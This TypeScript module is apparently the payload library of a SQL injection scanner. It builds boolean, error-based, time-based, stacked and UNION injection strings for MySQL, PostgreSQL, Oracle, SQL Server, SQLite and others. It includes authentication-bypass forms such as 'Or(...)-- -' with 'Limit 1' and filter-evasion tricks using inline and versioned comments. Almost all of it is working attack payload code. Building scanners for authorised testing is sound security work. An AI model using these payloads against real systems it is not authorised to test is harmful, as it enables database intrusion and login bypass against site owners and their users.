/**
 * Every payload of this module, as tables, so that a test can hold each of them against the rules of harmless.ts.
 * `v` is the value that stood in the place. No spaces where SQL allows: filters often strip them.
 */
import { conjunction } from '../insertion-points/word.ts'

/** How a predicate is put behind the value so that the rest of the statement still parses. */
export interface Boundary {
  readonly name: string
  /** Where it makes sense: digits, a bare name (a column), what rows are ordered by, any text. */
  readonly fits: 'number' | 'name' | 'order' | 'text'
  /** 'narrows' keeps the original rows where the predicate holds; 'widens' shows others and is for reading requests only. */
  readonly kind: 'narrows' | 'widens'
  /** Another value stands for the place's own. */
  readonly replaces?: true
  /** Where what is true does nothing through the boundary of this name, which comes before, it does nothing through this one. */
  readonly within?: string
  /** It ends the literal once and needs nothing behind it: for what puts a sign in front of each quote. Asked where a value finds something, too. */
  readonly once?: true
  /** Its first true answer is one that other modules ask for, too. */
  readonly quote?: "'" | '"'
  readonly with: (v: string, predicate: string) => string
}

/** Raises an error in MySQL, PostgreSQL and SQLite: the absolute value of the smallest 64-bit integer. */
const OVERFLOW = 'abs(-9223372036854775807-1)'

const WHATEVER_FOLLOWS = "text in ', or, whatever follows"

export const BOUNDARIES: readonly Boundary[] = [
  { name: 'number', fits: 'number', kind: 'narrows', with: (v, p) => `${v}-(Case/**/When(${p})Then(0)Else(98765)End)` },
  { name: 'number, and', fits: 'number', kind: 'narrows', with: (v, p) => `${v}/**/And(${p})` },
  { name: "text in '", fits: 'text', kind: 'narrows', quote: "'", with: (v, p) => conjunction(v, "'", p) },
  {
    name: "text in ', joined",
    fits: 'text',
    kind: 'narrows',
    with: (v, p) => `${v}'||(Case/**/When(${p})Then''Else(Cast(${OVERFLOW}As/**/Char(9)))End)||'`,
  },
  {
    // What is written need not keep its value: a number in quotes is added to in every database, in strict modes, too.
    name: "text in ', added to",
    fits: 'text',
    kind: 'narrows',
    replaces: true,
    with: (_v, p) => `0'+(Case/**/When(${p})Then(0)Else(${OVERFLOW})End)+'0`,
  },
  {
    name: 'number, failing',
    fits: 'number',
    kind: 'narrows',
    // As long as it is true they work out the same.
    within: 'number',
    with: (v, p) => `${v}-(Case/**/When(${p})Then(0)Else(${OVERFLOW})End)`,
  },
  { name: "pattern of Like in '", fits: 'text', kind: 'narrows', with: (v, p) => `${v}%'And(${p})And'%'='` },
  { name: "text in ' in parentheses", fits: 'text', kind: 'narrows', with: (v, p) => `${v}')And(${p})And('q'='q` },
  {
    name: "pattern of Like in ' in parentheses",
    fits: 'text',
    kind: 'narrows',
    with: (v, p) => `${v}%')And(${p})And('%'='`,
  },
  {
    // MySQL and MariaDB look whether a subquery has one row before they look for rows, so it fails where none is found, too.
    name: "text in ', failing",
    fits: 'text',
    kind: 'narrows',
    within: "text in '",
    with: (v, p) => `${v}'And(Case/**/When(${p})Then(1)Else(Select/**/1/**/Union/**/Select/**/2)End)And'q'='q`,
  },
  { name: 'number in parentheses', fits: 'number', kind: 'narrows', with: (v, p) => `${v})And(${p})And(1)=(1` },
  { name: 'text in "', fits: 'text', kind: 'narrows', quote: '"', with: (v, p) => conjunction(v, '"', p) },
  { name: 'text in " in parentheses', fits: 'text', kind: 'narrows', with: (v, p) => `${v}")And(${p})And("q"="q` },
  {
    name: 'order',
    fits: 'order',
    kind: 'narrows',
    with: (v, p) => `${v},(Select(Case/**/When(${p})Then(1)Else(Select 1 Union Select ${OVERFLOW})End))`,
  },
  { name: 'order by expression', fits: 'name', kind: 'narrows', with: (v, p) => chosenWhere(v, p) },
  // In front of another condition, a password that is compared behind the name: what holds so holds for more rows than behind the next two.
  { name: WHATEVER_FOLLOWS, fits: 'text', kind: 'widens', with: (v, p) => `${v}'Or(${p})Or'q'='p` },
  {
    name: "text in ', or",
    fits: 'text',
    kind: 'widens',
    within: WHATEVER_FOLLOWS,
    with: (v, p) => `${v}'Or(${p})And'q'='q`,
  },
  {
    name: "pattern of Like in ', or",
    fits: 'text',
    kind: 'widens',
    within: WHATEVER_FOLLOWS,
    with: (v, p) => `${v}'Or(${p})And'%'='`,
  },
  { name: "text in ', or, rest cut", fits: 'text', kind: 'widens', once: true, with: (v, p) => `${v}'Or(${p})-- -` },
  // Who signs in is one person: where several rows come, some pages show none.
  {
    name: "text in ', or, one row, rest cut",
    fits: 'text',
    kind: 'widens',
    with: (v, p) => `${v}'Or(${p})Limit/**/1-- -`,
  },
  { name: "text in ') or, rest cut", fits: 'text', kind: 'widens', once: true, with: (v, p) => `${v}')Or(${p})-- -` },
  { name: 'text in ", or', fits: 'text', kind: 'widens', with: (v, p) => `${v}"Or(${p})And"q"="q` },
  { name: 'number, or', fits: 'number', kind: 'widens', with: (v, p) => `${v}/**/Or(${p})` },
]

/** Turned round, which no other language reads so. */
export const turned = (v: string): string => {
  const [column, direction] = directed(v)
  const other = /desc/i.test(direction) ? 'Asc' : 'Desc'
  const [sign] = /^[,:|]/.exec(direction) ?? []
  // The program compares the word with its own.
  const word = /[a-z]/.test(direction) ? other.toLowerCase() : other.toUpperCase()
  return sign === undefined ? `${column}/**/${other}` : `${column}${sign}${word}`
}

/**
 * What rows are ordered by, with its direction: `name asc`, `price desc, name asc`; `name,asc` and `name:desc`, which a program takes apart and puts into
 * its statement (Spring Data).
 */
export const isDirected = (v: string): boolean => DIRECTED.test(v) || PAIRED.test(v)
const DIRECTED = /^[A-Za-z_][\w.]{0,60}\s+(?:asc|desc)(?:\s*,\s*[A-Za-z_][\w.]{0,60}(?:\s+(?:asc|desc))?){0,5}$/i

const PAIRED = /^[A-Za-z_][\w.]{0,60}[,:|](?:asc|desc)$/i

/** The first column, or what stands for it, and what follows its direction; no direction where there is none. */
const directed = (v: string): readonly [column: string, direction: string] => {
  const at = /(?:\s{1,20}|[,:|])(?:asc|desc)(?:\s{0,20},[\w\s.,]{0,400})?$/i.exec(v)?.index ?? v.length
  return [v.slice(0, at), v.slice(at)]
}

/** `-name`: many programs take the sign off and turn the order round (JSON:API, "Sorting"); what stands behind it goes into the statement. */
const signed = (v: string, expression: (name: string) => string): string => {
  const sign = /^[-+](?=[A-Za-z_])/.exec(v)?.[0] ?? ''
  const [column, direction] = directed(v.slice(sign.length))
  return `${sign}${expression(column)}${direction}`
}
const chosenWhere = (v: string, p: string): string => signed(v, (name) => `(Case/**/When(${p})Then(${name})End)`)

/** What rows are ordered by where the predicate holds, and nothing where it does not; turned round for what fails with the usual order. */
export const ORDERINGS: readonly {
  readonly name: string
  /** Whose order a true predicate has to bring. */
  readonly like: (v: string) => string
  readonly with: (v: string, predicate: string) => string
}[] = [
  { name: 'order of rows', like: (v) => v, with: chosenWhere },
  { name: 'order of rows, turned round', like: turned, with: (v, p) => turned(chosenWhere(v, p)) },
]

/** The database shows the product of two numbers within an error text. `open` and `close` come from the context. */
export interface Revealing {
  readonly dbms: string
  readonly expression: (a: number, b: number) => string
}

export const REVEALING: readonly Revealing[] = [
  { dbms: 'MySQL', expression: (a, b) => `extractvalue(1,concat(char(126),${a}*${b}))` },
  { dbms: 'MySQL', expression: (a, b) => `updatexml(1,concat(char(126),${a}*${b}),1)` },
  { dbms: 'PostgreSQL', expression: (a, b) => `Cast(Chr(126)||(${a}*${b})As/**/Int)` },
  { dbms: 'H2', expression: (a, b) => `Cast(Char(126)||(${a}*${b})As/**/Int)` },
  { dbms: 'CockroachDB', expression: (a, b) => `Cast(Chr(126)||(${a}*${b})::Text/**/As/**/Int)` },
  { dbms: 'Microsoft SQL Server', expression: (a, b) => `Convert(Int,Char(126)+Cast(${a}*${b}/**/As/**/Varchar))` },
  { dbms: 'Oracle', expression: (a, b) => `to_number(XMLType(Chr(60)||Chr(58)||(${a}*${b})||Chr(62)))` },
  { dbms: 'SQLite', expression: (a, b) => `json_extract(json_array(),Char(126)||(${a}*${b}))` },
  { dbms: 'ClickHouse', expression: (a, b) => `toInt32(concat(char(126),toString(${a}*${b})))` },
]

/** How a scalar expression is put into the statement. */
export interface Splice {
  readonly name: string
  readonly fits: Boundary['fits']
  readonly dbms: readonly string[] | null
  readonly with: (v: string, expression: string) => string
}

const JOINING = ['PostgreSQL', 'H2', 'CockroachDB', 'Oracle', 'SQLite', 'ClickHouse']

export const SPLICES: readonly Splice[] = [
  { name: 'number', fits: 'number', dbms: null, with: (v, e) => `${v}-(${e})` },
  { name: "text in '", fits: 'text', dbms: JOINING, with: (v, e) => `${v}'||(${e})||'` },
  { name: "text in '", fits: 'text', dbms: ['MySQL'], with: (v, e) => `${v}'Xor(${e})Xor'z` },
  {
    name: "text in '",
    fits: 'text',
    dbms: ['Microsoft SQL Server'],
    with: (v, e) => `${v}'+Cast(${e}/**/As/**/Varchar)+'`,
  },
  { name: 'text in "', fits: 'text', dbms: ['MySQL', 'SQLite'], with: (v, e) => `${v}"And(${e})And"z` },
  { name: 'order', fits: 'order', dbms: null, with: (v, e) => `${v},(${e})` },
  { name: 'name', fits: 'name', dbms: null, with: (v, e) => signed(v, () => `(${e})`) },
  { name: 'limit', fits: 'number', dbms: ['MySQL'], with: (v, e) => `${v}/**/Procedure/**/Analyse(${e},1)` },
]

/** The product of two numbers, worked out while a statement writes it: every database adds to a number in quotes. */
export const WRITTEN: readonly {
  readonly fits: Boundary['fits']
  readonly with: (a: number, b: number) => string
}[] = [
  { fits: 'text', with: (a, b) => `0'+(Select(${a}*${b}))+'0` },
  { fits: 'number', with: (a, b) => `(Select(${a}*${b}))` },
]

/** Waits in the statement itself. One text that holds whether the place is a number or quoted. */
export interface Waiting {
  readonly dbms: string
  readonly technique: 'time' | 'stacked'
  /** What the value has to look like, any of it. */
  readonly fits: readonly Boundary['fits'][]
  /** Asked where quotes are answered otherwise than a word alone: what refuses one kind of them refuses a text that holds both. */
  readonly quoted?: true
  readonly with: (v: string, seconds: string) => string
}

const ANY = ['text', 'number'] as const
/** Quotes, spaces and comments may be refused where none are needed. */
const UNQUOTED = ['number'] as const
/** Where a condition or an expression within the statement would not parse: a limit, a name. */
const BARE = ['number', 'name'] as const
const number = (v: string): string => (/^-?\d+(\.\d+)?$/.test(v) ? v : '1')
/** Behind a number the comment hides the first of the two, behind text the line comment hides the second. */
const followed = (v: string, statement: string): string => `${number(v)}/*';${statement}-- */;${statement}-- -`
export const isName = (v: string): boolean => /^[-+]?[A-Za-z_][\w.]{0,40}$/.test(v)
/** Without spaces, which filters refuse where nothing else shows. */
const mysql = (s: string): string => `(Select(0)From(Select(Sleep(${s})))x)`

export const WAITING: readonly Waiting[] = [
  {
    dbms: 'MySQL',
    technique: 'time',
    fits: ANY,
    with: (v, s) => `${v || '1'}-${mysql(s)}/*'Xor${mysql(s)}Xor'"Xor${mysql(s)}Xor"*/`,
  },
  {
    dbms: 'MySQL',
    technique: 'time',
    fits: UNQUOTED,
    with: (v, s) => `${v || '1'}-${mysql(s)}`,
  },
  { dbms: 'MySQL', technique: 'time', fits: ['text'], quoted: true, with: (v, s) => `${v}'Xor${mysql(s)}Xor'` },
  { dbms: 'MySQL', technique: 'time', fits: ['text'], quoted: true, with: (v, s) => `${v}"Xor${mysql(s)}Xor"` },
  {
    dbms: 'PostgreSQL',
    technique: 'time',
    fits: UNQUOTED,
    with: (v, s) => `${v || '1'}-(Select(0*Count(pg_sleep(${s}))))`,
  },
  {
    dbms: 'PostgreSQL',
    technique: 'time',
    fits: ANY,
    // Comments stand within comments there.
    with: (v, s) => `${number(v)}-(Select(0*Count(pg_sleep(${s}))))/*'||(Select('')From/**/pg_sleep(${s}))||'*/`,
  },
  { dbms: 'PostgreSQL', technique: 'time', fits: ['name'], with: (v, s) => `${v},(Select(1)From/**/pg_sleep(${s}))` },
  {
    dbms: 'Oracle',
    technique: 'time',
    fits: ANY,
    with: (v, s) => `${number(v)}-Dbms_Pipe.Receive_Message('q',${s})/*'||Dbms_Pipe.Receive_Message('q',${s})||'*/`,
  },
  {
    // MySQL runs what stands in a comment of its own, and only then fails at the rest. The statement ends behind the
    // comment: MariaDB reads no further where one ends within (10.11.19).
    dbms: 'MySQL or PostgreSQL',
    technique: 'stacked',
    fits: BARE,
    with: (v, s) => `${v};/*!Select Sleep(${s})*/;Select pg_sleep(${s})-- -`,
  },
  {
    dbms: 'Microsoft SQL Server',
    technique: 'stacked',
    fits: ANY,
    with: (v, s) => followed(v, `Waitfor Delay '0:0:${s}'`),
  },
]

/** The harmless twin of what breaks a statement. */
export const doubled = (v: string): string => `${v}''`

/** What every database reads as one value again, by where it stands; a text first, in which the other is one as well. */
export const WHOLE: readonly { readonly fits: 'text' | 'number'; readonly with: (v: string) => string }[] = [
  { fits: 'text', with: doubled },
  { fits: 'number', with: (v) => `${v || '1'}-0` },
]

/** Shows the product of two numbers between two words, as a column of a second result. */
export interface Union {
  readonly name: string
  readonly open: string
  readonly fits: Boundary['fits']
}

export const UNIONS: readonly Union[] = [
  { name: "text in '", open: "'", fits: 'text' },
  { name: 'number', open: '', fits: 'number' },
  { name: "text in ' in parentheses", open: "')", fits: 'text' },
  { name: 'text in "', open: '"', fits: 'text' },
]

export const ordered = (v: string, open: string, column: number): string => `${v}${open} Order By ${column}-- -`

export const MARKS: readonly ((a: number, b: number) => string)[] = [
  (a, b) => `'qv'||(${a}*${b})||'vq'`,
  (a, b) => `concat('qv',${a}*${b},'vq')`,
]

/** Another column beside the one that is named. */
export const listed = (v: string, expression: string): string => `${v},${expression}`

export const united = (open: string, columns: readonly string[], dual = ''): string =>
  `-98765${open} Union All Select ${columns.join(',')}${dual}-- -`

/** Behind a number: an operator without its second operand, where a server of that version (five or six digits) reads it. */
export interface Commented {
  readonly text: string
  /** Without its end, which no version can read. */
  readonly open: string
}

export const commentedFor = (version: number): Commented => ({ text: `/*!${version}-*/`, open: `/*!${version}-` })
